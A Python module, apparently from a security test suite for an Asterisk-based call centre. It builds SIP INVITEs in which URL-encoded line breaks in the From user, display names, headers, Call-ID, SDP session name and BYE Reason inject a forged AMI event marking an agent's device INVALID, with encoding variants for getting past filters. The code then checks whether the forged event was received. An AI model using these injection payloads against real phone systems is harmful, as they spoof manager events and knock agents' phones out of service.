"""A caller writes manager events into the texts of an INVITE.

Asterisk decodes `%0D%0A` in a SIP user. Where it takes the user as the caller's number, it writes the line end into AMI
events, and what follows becomes an event of its own: an agent's phone is gone, for instance.
"""

import asyncio
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

from acd.attack import sip
from acd.attack.attack import Attack, Outcome
from acd.attack.line import AGENTS
from acd.attack.scene import DIALLED, Scene

AT_ONCE = 6
HEADERS = (
    "Subject", "User-Agent", "Organization", "Call-Info", "Alert-Info", "Reason", "Diversion", "History-Info",
    "P-Asserted-Identity", "P-Preferred-Identity", "Remote-Party-ID", "Referred-By", "Privacy", "X-Text",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Text:
    """One forged text: where it stands, and the INVITE's headers and URI."""

    place: str
    headers: tuple[tuple[str, str], ...]
    target: str = DIALLED
    session: str = "-"


def event_of(device: str, eol: str = "\r\n") -> str:
    """A blank line, and an event behind it: this device is out of service."""
    lines = ("", "", "Event: DeviceStateChange", f"Device: {device}", "State: INVALID", "", "")
    return eol.join(lines)


def texts(device: str, number: str, line: str) -> Iterator[Text]:
    """The event in every text that an INVITE carries, as a caller would have to write it."""
    encoded = quote(event_of(device), safe="")
    for place, user in (
        ("From user", number[:5] + encoded),
        ("From user, CR alone", number[:5] + quote(event_of(device, "\r"), safe="")),
        ("From user, LF alone", number[:5] + quote(event_of(device, "\n"), safe="")),
        ("From user, small letters", number[:5] + encoded.lower()),
        ("From user, behind a NUL", number[:5] + "%00" + encoded),
        ("From user, encoded twice", number[:5] + encoded.replace("%", "%25")),
        ("From user, and nothing else", encoded),
    ):
        yield Text(place, (("From", f"<sip:{user}@127.0.0.2>"),))
    own = f"<sip:{number}@127.0.0.2>"
    yield Text("From name", (("From", f'"{encoded}" {own}'),))
    yield Text("From name, LF and blank", (("From", '"' + event_of(device, "\n ") + f'" {own}'),))
    yield Text("From parameter", (("From", f"<sip:{number}@127.0.0.2;x={encoded}>"),))
    yield Text("Contact user", (("From", own), ("Contact", f"<sip:{encoded}@127.0.0.2:@PORT@>")))
    yield Text("To user", (("From", own), ("To", f"<sip:{encoded}@{line}>")))
    yield Text("To name", (("From", own), ("To", f'"{encoded}" <sip:{DIALLED}@{line}>')))
    yield Text("Call-ID", (("From", own), ("Call-ID", f"{sip.token()}{encoded}@x")))
    yield Text("Request-URI parameter", (("From", own),), target=f"sip:{DIALLED}@{line};x={encoded}")
    yield Text("session name", (("From", own),), session=encoded)
    for name in HEADERS:
        value = f'"{encoded}" <sip:{encoded}@127.0.0.2>;reason="{encoded}";text="{encoded}"'
        yield Text(name, (("From", own), (name, value)))


async def play(scene: Scene, outcome: Outcome) -> None:
    """Each text twice: once about a device that nobody has, by which it is found again, and once about an agent's."""
    victim = AGENTS[0]
    await scene.desk(count=1)
    turns = asyncio.Semaphore(AT_ONCE)
    answered: list[str] = []

    async def send(text: Text, number: str) -> None:
        async with turns:
            phone = await scene.caller(number)
            headers = [(name, value.replace("@PORT@", str(phone.port))) for name, value in text.headers]
            call = phone.dial(text.target, headers=headers, body=sip.sdp(phone.host, 9, session=text.session))
            outcome.tried += 1
            if await call.begin(within_s=1.5) == 200:
                answered.append(text.place)
                await asyncio.sleep(0.1)
                await call.bye([("Reason", f'SIP;cause=200;text="{quote(event_of("PJSIP/7999"), safe="")}"')])

    marks: dict[str, str] = {}
    sending = []
    line = f"{scene.line.sip[0]}:{scene.line.sip[1]}"
    for nth, _ in enumerate(texts("", "0" * 10, line)):
        device, number = f"PJSIP/{7000 + nth}", f"0531{nth:07d}"
        text = list(texts(device, number, line))[nth]
        marks[device] = text.place
        sending.append(send(text, number))
        sending.append(send(list(texts(f"PJSIP/{victim}", number, line))[nth], number))
    marks["PJSIP/7999"] = "Reason of BYE"
    await asyncio.gather(*sending)
    if "User-Agent" not in answered:
        outcome.unplayed.append("an INVITE with nothing forged but its User-Agent was not answered")
    await asyncio.sleep(0.3)
    for device, place in marks.items():
        for witness, mark, who in (
            (scene.told, scene.told_mark, "the engine was told"),
            (scene.watch, scene.watch_mark, "a manager user was told"),
        ):
            if witness.has_line(mark, "Device", device):
                outcome.moved.append(f"{place}: {who} of an event that the caller wrote")
                break


ATTACK = Attack("forged text", "manager events written into every text of an INVITE", play)
